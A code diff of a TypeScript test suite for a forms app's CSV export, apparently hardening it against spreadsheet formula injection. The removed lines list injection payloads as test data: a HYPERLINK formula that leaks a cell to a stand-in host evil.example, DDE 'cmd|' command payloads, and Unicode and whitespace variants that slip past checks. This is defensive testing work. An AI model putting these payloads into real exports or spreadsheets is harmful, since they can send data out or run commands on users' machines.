@@ -6,43 +6,11 @@ import {forms} from './setup/command';
 import {APPLICATION, ENQUIRY, RESUME} from './setup/forms';
 import {parseCsv} from './setup/csv';
 import {fill, save, ticking, type Ids} from './setup/filled-store';
+import {FORMULAS, SPLITS, liveFormulas} from './setup/formulas';
 
 const HEADER =
   'id,form,receivedAt,held,name,email,phoneNumber,companyName,enquiries,position,fileName,' +
   'fileType,fileSize,fileSha256,fileWarnings,suspicionScore,suspicionSigns,mail,sheet,language,reference,fileScan';
-
-/** What spreadsheets have been made to run, and what only looks like it. */
-const FORMULAS = [
-  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
-  "=cmd|' /C calc'!A0",
-  '+1+1',
-  '-2+3+cmd|x',
-  '@SUM(1+1)*cmd|x',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\u0000=1+1',
-  '  =1+1',
-  '\u00a0=1+1',
-  '\uff1d1+1',
-  '\uff0b1+1',
-  '\uff0d1+1',
-  '\uff20SUM(1)',
-];
-
-/** Whichever separator a spreadsheet splits a line at, with or without a look at the quotes. */
-const SPLITS = [
-  "x;=cmd|'/C calc'!A0;y",
-  'x\t=1+2',
-  'x,=1+2',
-  'x|=1+2',
-  'x;;  =1+2',
-  'x; "=1+2',
-  'x";=1+2',
-  "x;'\t@SUM(1)",
-  'x\r\n;+1+cmd|x',
-  'x;\uff1d1+2',
-];
 
 const HARMLESS = ['a=1', 'Rao, "Asha"', 'two\r\nlines', "O'Hara & Söhne", '株式会社', '3 = three'];
 
@@ -109,9 +77,8 @@ test.each(FORMULAS)('a spreadsheet does not take %j for a formula', async (formu
 
 test('no piece of a line is a formula, whichever separator splits it', async () => {
   const {out} = await forms(['export', '--csv'], env);
-  const pieces = out.replace('\uFEFF', '').split(/[,;|\t\r\n]/);
-  expect(pieces.length).toBeGreaterThan(200);
-  expect(pieces.filter((piece) => /^[\s"\0]*[=+\-@＝＋－＠]/u.test(piece))).toEqual([]);
+  expect(out.length).toBeGreaterThan(5000);
+  expect(liveFormulas(out)).toEqual([]);
 });
 
 test('names of files are as harmless as other cells, and the language stands last', async () => {
